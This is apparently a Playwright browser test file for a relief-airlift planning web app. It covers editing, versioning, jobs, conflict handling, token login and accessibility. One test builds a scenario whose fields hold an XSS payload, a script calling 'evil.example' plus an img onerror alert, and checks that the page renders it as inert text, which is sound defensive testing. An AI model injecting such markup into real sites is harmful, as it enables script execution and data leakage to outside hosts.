"""The served app in a real browser: runs, tables, jobs; edits with bad and good values; nothing is lost silently."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.app.conftest import opened
from tests.app.serving import Server

AXE = Path(__file__).parents[2] / "frontend" / "node_modules" / "axe-core" / "axe.min.js"
WAIT_MS = 120_000


@pytest.fixture(scope="module")
def server(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    made = Server(tmp_path_factory.mktemp("served"))
    yield made
    made.end()


@pytest.fixture
def fresh(chromium: Browser, tmp_path: Path) -> Iterator[Server]:
    made = Server(tmp_path)
    yield made
    made.end()


def shown(page: Page, address: str) -> None:
    page.set_default_timeout(60_000)
    expect.set_options(timeout=30_000)
    page.goto("about:blank")
    page.goto(address)


def copied(server: Server, name: str) -> str:
    """Make a small scenario of one's own, and return its name."""
    server.ask("/api/scenarios", {"name": name, "example": "relief-small"})
    return name


def cell(page: Page, row: str, column: str) -> Locator:
    """Return the cell of the grid in the first row whose first cell holds this text."""
    page.get_by_role("grid").wait_for()
    heads = page.locator(".oa-cells thead th")
    at = [text.rstrip("*") for text in heads.all_inner_texts()].index(column)
    return page.locator(f'.oa-cells tbody tr:has(> :first-child:has-text("{row}"))').first.locator("> *").nth(at)


def put(page: Page, row: str, column: str, text: str) -> None:
    cell(page, row, column).click()
    page.keyboard.press("Control+A")
    page.keyboard.type(text)
    page.keyboard.press("Enter")


def test_the_first_page_leads_to_the_app_and_forms_stay(chromium: Browser, server: Server) -> None:
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/#screen=jobs")
        page.wait_for_url(f"{server.address}/app#screen=jobs")
        page.get_by_role("button", name="Runs", exact=True).click()
        page.get_by_role("link", name="Pages that work without scripts").click()
        expect(page.get_by_role("heading", name="Scenarios, runs and jobs")).to_be_visible()
        assert page.url == f"{server.address}/?forms=1"
        assert seen.elsewhere(server.address) == []


def test_a_copy_of_an_example_opens_as_tables(chromium: Browser, server: Server) -> None:
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/app")
        page.get_by_label("Example", exact=True).select_option("relief-small")
        page.get_by_label("Name of the copy").fill("from-the-page")
        page.get_by_role("button", name="Copy", exact=True).click()
        expect(page.get_by_role("heading", name="from-the-page, version 1")).to_be_visible()
        expect(page.get_by_role("grid")).to_contain_text("Beira airport")
        assert seen.elsewhere(server.address) == []


def test_a_bad_value_is_told_at_its_cell_and_a_good_one_makes_a_version(chromium: Browser, server: Server) -> None:
    name = copied(server, "edited")
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/app#screen=edit&scenario={name}&table=requirements")
        first = "water"  # goes to dondo
        put(page, first, "destination", "bera")
        bad = cell(page, first, "destination")
        expect(bad).to_contain_text("beira")
        expect(bad).to_have_attribute("aria-invalid", "true")
        save = page.get_by_role("button", name="Save as version 2")
        expect(save).to_be_disabled()
        assert server.ask(f"/api/scenarios/{name}")["versions"] == [1]
        page.get_by_role("button", name="Use beira").first.click()
        expect(cell(page, first, "destination")).not_to_contain_text("Nearest")
        expect(
            page.get_by_text("Nothing is wrong or doubtful.").or_(page.get_by_text(re.compile("doubt")))
        ).to_be_visible()
        expect(save).to_be_enabled()
        save.click()
        expect(page.get_by_text("Saved as version 2")).to_be_visible()
        assert server.ask(f"/api/scenarios/{name}")["versions"] == [1, 2]
        assert seen.elsewhere(server.address) == []


def test_rows_are_added_and_removed_and_cells_edited_by_keyboard(chromium: Browser, server: Server) -> None:
    name = copied(server, "rows")
    with opened(chromium) as (page, _):
        shown(page, f"{server.address}/app#screen=edit&scenario={name}&table=links")
        page.locator('[data-at="0/0"]').focus()
        page.keyboard.press("End")
        page.keyboard.press("Enter")  # the button that takes the row out
        expect(page.locator("tr.oa-gone")).to_have_count(1)
        page.keyboard.press("Enter")
        expect(page.locator("tr.oa-gone")).to_have_count(0)
        page.get_by_role("button", name="places", exact=True).click()
        page.get_by_role("button", name="Add a row").click()
        page.locator("tr.oa-new td").first.click()
        page.keyboard.type("camp-x")
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.keyboard.type("Camp X")
        page.keyboard.press("Enter")
        expect(page.locator("tr.oa-new")).to_contain_text("Camp X")
        page.get_by_role("button", name="Save", exact=False).first.click()
        expect(page.get_by_text("Saved as version 2")).to_be_visible()
        assert "camp-x" in (server.folder / f"{name}.v2" / "places.csv").read_text()
        page.locator(".oa-cells tbody tr", has_text="Camp X").get_by_role("button").click()
        page.get_by_role("button", name="Save as version 3").click()
        expect(page.get_by_text("Saved as version 3")).to_be_visible()
        assert "camp-x" not in (server.folder / f"{name}.v3" / "places.csv").read_text()


def test_one_spot_more_is_run_with_progress_and_opened(chromium: Browser, server: Server) -> None:
    name = copied(server, "spot")
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/app#screen=edit&scenario={name}")
        page.get_by_role("button", name=re.compile("One more parking spot at Beira")).click()
        expect(page.get_by_text("1 change is not saved.")).to_be_visible()
        page.get_by_label("runs", exact=True).fill("4")
        page.get_by_label("seed", exact=True).fill("3")
        page.get_by_role("button", name="Save and run").click()
        expect(page.get_by_role("progressbar").or_(page.get_by_role("link", name="Open the new run"))).to_be_visible()
        page.get_by_role("link", name="Open the new run").wait_for(timeout=WAIT_MS)
        assert "wide:2" in (server.folder / f"{name}.v2" / "places.csv").read_text()
        page.reload()  # a link keeps the job, and what came out
        page.get_by_role("link", name="Open the new run").wait_for(timeout=WAIT_MS)
        first = page.evaluate("new URLSearchParams(location.hash.slice(1)).get('task')")
        page.get_by_label("seed", exact=True).fill("4")
        page.get_by_role("button", name="Run", exact=True).click()
        page.wait_for_url(lambda url: first not in url)
        compare = page.get_by_role("link", name="Compare with the run before")
        compare.wait_for(timeout=WAIT_MS)
        old = server.ask(f"/api/jobs/{first}")["run"]
        assert f"run={old}&against=" in (compare.get_attribute("href") or "")
        compare.click()
        expect(page.locator("#runs-title")).to_be_visible()
        page.go_back()
        page.get_by_role("link", name="Open the new run").click()
        expect(page.get_by_role("heading", level=1)).to_contain_text("Relief to Beira")
        expect(page.locator(".oa-content")).not_to_contain_text("This can't be shown")
        assert len(server.ask("/api/runs")["runs"]) >= 2
        page.goto("about:blank")
        page.goto(f"{server.address}/app#run={old}&screen=limits&t=450000")  # a link is opened with its time
        expect(page.get_by_role("slider")).to_have_value("450000")
        page.reload()
        expect(page.get_by_role("slider")).to_have_value("450000")
        assert seen.elsewhere(server.address) == []


def test_a_job_is_started_from_its_form_stopped_and_resumed(chromium: Browser, server: Server) -> None:
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/app#screen=jobs&scenario=relief-small")
        page.get_by_label("runs", exact=True).fill("0")
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_label("runs", exact=True)).to_have_attribute("aria-invalid", "true")
        page.get_by_label("runs", exact=True).fill("200000")
        page.get_by_role("button", name="Start").click()
        page.get_by_role("progressbar").wait_for()
        expect(page.locator("#one-job ~ .oa-progress")).to_contain_text("of 200000", timeout=WAIT_MS)
        page.get_by_role("button", name="Stop, keep what is done").click()
        resume = page.get_by_role("button", name="Resume")
        resume.wait_for(timeout=WAIT_MS)
        expect(page.locator(".oa-progress .oa-state")).to_have_text("stopped")
        page.reload()
        resume.click()
        page.get_by_role("button", name="Stop, keep what is done").click(timeout=WAIT_MS)
        resume.wait_for(timeout=WAIT_MS)
        page.get_by_role("button", name="Take away").click()
        expect(page.locator("#one-job")).to_have_count(0)
        assert seen.elsewhere(server.address) == []


def test_a_result_is_given_as_json_and_as_a_page(chromium: Browser, server: Server) -> None:
    with opened(chromium) as (page, _):
        shown(page, f"{server.address}/app#screen=jobs&scenario=relief-small")
        page.get_by_label("What to ask").select_option("stocks")
        page.get_by_label("samples", exact=True).fill("50")
        page.get_by_label("months", exact=True).fill("6")
        page.get_by_role("button", name="Start").click()
        link = page.get_by_role("link", name="Result as JSON")
        link.wait_for(timeout=WAIT_MS)
        assert page.get_by_role("link", name="The page it wrote").get_attribute("href")
        link.click()
        expect(page.locator("pre")).to_contain_text("items")


def test_edits_of_others_are_met_without_loss(chromium: Browser, server: Server) -> None:
    name = copied(server, "met")
    with opened(chromium) as (page, seen):
        shown(page, f"{server.address}/app#screen=edit&scenario={name}")
        put(page, "beira", "working", "3")
        put(page, "dubai", "working", "5")
        expect(page.get_by_text("2 changes are not saved.")).to_be_visible()
        save = page.get_by_role("button", name="Save as version 2")
        expect(save).to_be_enabled()
        tag = server.ask(f"/api/scenarios/{name}")["tag"]
        theirs = {"set": {"places/beira/working": "4", "places/joburg/working": "7"}}
        server.ask(f"/api/scenarios/{name}/edits", theirs, if_match=tag)
        save.click()
        expect(page.get_by_role("alert").filter(has_text="saved version 2 meanwhile")).to_be_visible()
        expect(page.locator(".oa-meanwhile")).to_contain_text("places/beira/working: theirs is 4, yours is 3.")
        page.get_by_role("button", name="Save as version 3").click()
        expect(page.get_by_text("Saved as version 3")).to_be_visible()
        text = (server.folder / f"{name}.v3" / "places.csv").read_text()
        working = {line.split(",")[0]: line.split(",")[-5] for line in text.splitlines()[1:4]}
        assert working == {"dubai": "5", "joburg": "7", "beira": "3"}
        conflict = [text for text in seen.complaints if "409" in text]
        assert len(conflict) == len(seen.complaints) == 1  # Chromium itself writes down an answer of 409
        seen.complaints.clear()


def test_unsaved_edits_warn_on_leaving_and_old_versions_are_read_only(chromium: Browser, server: Server) -> None:
    name = copied(server, "left")
    with opened(chromium) as (page, _):
        shown(page, f"{server.address}/app#screen=edit&scenario={name}")
        put(page, "beira", "working", "3")
        expect(page.get_by_text("1 change is not saved.")).to_be_visible()
        asked: list[str] = []
        page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
        page.get_by_role("button", name="Jobs", exact=True).click()
        page.get_by_role("button", name="Edit", exact=True).click()
        expect(page.get_by_text("1 change is not saved.")).to_be_visible()  # other screens leave it there
        page.wait_for_url(re.compile("screen=edit"))
        page.reload()
        assert asked == ["beforeunload"]
        expect(page.get_by_text("Nothing is changed.")).to_be_visible()
        put(page, "beira", "working", "3")
        page.get_by_role("button", name="Save as version 2").click()
        expect(page.get_by_text("Saved as version 2")).to_be_visible()
        page.get_by_label("Versions", exact=True).select_option("1")
        expect(page.get_by_text("Only the newest, version 2, can be changed.")).to_be_visible()
        expect(cell(page, "beira", "working")).to_have_text("2")
        page.get_by_role("button", name="Go to the newest").click()
        expect(cell(page, "beira", "working")).to_have_text("3")


def test_a_lost_server_is_said_and_the_job_is_shown_as_interrupted(chromium: Browser, fresh: Server) -> None:
    job = fresh.ask("/api/verbs/run", {"scenario": "relief-small", "runs": 200_000})["id"]
    with opened(chromium) as (page, seen):
        shown(page, f"{fresh.address}/app#screen=jobs&task={job}")
        expect(page.locator(".oa-progress")).to_contain_text("of 200000", timeout=WAIT_MS)
        fresh.end(hard=True)
        expect(page.get_by_text("The server does not answer.")).to_be_visible(timeout=20_000)
        fresh.start()
        expect(page.get_by_text("The server does not answer.")).to_be_hidden(timeout=30_000)
        expect(page.locator(".oa-progress .oa-state")).to_have_text("interrupted", timeout=30_000)
        page.get_by_role("button", name="Resume").click()
        expect(page.locator(".oa-progress")).to_contain_text("of 200000", timeout=WAIT_MS)
        page.get_by_role("button", name="Stop, keep what is done").click()
        expect(page.locator(".oa-progress .oa-state")).to_have_text("stopped", timeout=WAIT_MS)
        gone = [text for text in seen.complaints if "ERR_CONNECTION_REFUSED" in text or "ERR_" in text]
        assert gone == seen.complaints  # nothing but that no answer came
        seen.complaints.clear()


def test_the_token_is_asked_for_and_the_link_is_kept(chromium: Browser, tmp_path: Path) -> None:
    made = Server(tmp_path, "--token", "correct-horse-battery")
    try:
        with opened(chromium) as (page, seen):
            shown(page, f"{made.address}/app#screen=jobs&scenario=relief-small")
            page.get_by_label("Token of this server").fill("correct-horse-battery")
            page.get_by_role("button", name="Log in").click()
            page.wait_for_url(re.compile(r"/app#screen=jobs"))
            expect(page.get_by_label("What to ask")).to_be_visible()
            page.context.clear_cookies()
            page.get_by_role("button", name="Runs", exact=True).click()
            expect(page.get_by_text("This server asks for its token.")).to_be_visible()
            expect(page.get_by_role("link", name="Log in")).to_be_visible()
            assert all("401" in text for text in seen.complaints)
            seen.complaints.clear()
            assert seen.elsewhere(made.address) == []
    finally:
        made.end()


SCRIPT = "<script>document.title='pwned';fetch('http://evil.example/')</script><img src=x onerror=\"alert(1)\">"


def hostile(server: Server) -> None:
    """Make a scenario whose every text is markup, and break another of these texts."""
    quoted = SCRIPT.replace('"', '""')
    toml = SCRIPT.replace("\\", "\\\\").replace('"', '\\"')
    files = {
        "scenario.toml": f'title = "{toml}"\nbanner = "{toml}"\nstart = "2026-01-01"\nhorizon_days = 5\n',
        "places.csv": f'id,name,icao,parking,working,x_note\n"{quoted}","{quoted}",OMDW,wide:1,2,"{quoted}"\n',
        "fleet.csv": f'type,base,tails\n"{quoted}","{quoted}","{quoted}"\n',
        "requirements.csv": f'req_id,item,quantity,origin,destination\n"{quoted}","{quoted}",1,"{quoted}","{quoted}"\n',
        "options.toml": f'[option.odd]\ntitle = "{toml}"\n',
        "notes.txt": SCRIPT,
    }
    server.ask("/api/scenarios", {"name": "odd", "files": files})


@pytest.mark.parametrize("where", ["runs", "edit", "jobs"])
def test_markup_in_every_text_is_shown_as_text(chromium: Browser, fresh: Server, where: str) -> None:
    hostile(fresh)
    job = fresh.ask("/api/verbs/size", {"scenario": "relief-small", "fleet": SCRIPT, "meet": "required"})["id"]
    fresh.ended(job)
    with opened(chromium) as (page, seen):
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        shown(page, f"{fresh.address}/app#screen={where}&scenario=odd&task={job}")
        expect(page.locator("h2").first).to_be_visible()
        if where == "edit":
            for table in ("places", "fleet", "requirements", "scenario"):
                page.locator(".oa-tabs button", has_text=re.compile(f"^{table}")).click()
                expect(page.get_by_role("grid")).to_contain_text("<script>")
            page.locator(".oa-tabs button", has_text=re.compile("^places")).click()
            put(page, "<script>", "working", SCRIPT)
            expect(page.locator(".oa-cell.oa-bad").first).to_contain_text("<img")
        else:
            expect(page.locator(".oa-content")).to_contain_text("odd" if where == "runs" else "<script>")
        assert page.locator(".oa-page img, .oa-page script").count() == 0
        assert page.title() == "OpenAirlift"
        assert dialogs == []
        assert seen.elsewhere(fresh.address) == []


@pytest.mark.parametrize("where", ["runs", "edit", "jobs"])
@pytest.mark.parametrize(("width", "dark"), [(360, False), (360, True), (1280, False), (1280, True)])
def test_no_serious_finding_and_no_sideways_scrolling(
    chromium: Browser, server: Server, where: str, width: int, dark: bool
) -> None:
    with opened(chromium, width=width, dark=dark) as (page, _):
        shown(page, f"{server.address}/app#screen={where}&scenario=relief-small")
        there = {"edit": ".oa-cells", "jobs": "#ask-about", "runs": ".oa-list li"}[where]
        expect(page.locator(there).first).to_be_visible()
        if where == "edit":
            put(page, "beira", "working", "three")
            expect(page.locator(".oa-cell.oa-bad")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert AXE.exists(), "python hatch_build.py --check installs it"
        page.evaluate(AXE.read_text())  # no script element: the policy of the page allows its own only
        found = page.evaluate("axe.run().then(told => told.violations.filter(one => "
                              "['serious', 'critical'].includes(one.impact)).map(one => one.id + ': ' + "
                              "one.nodes.map(node => node.target).join(' | ')))")  # fmt: skip
        assert found == []
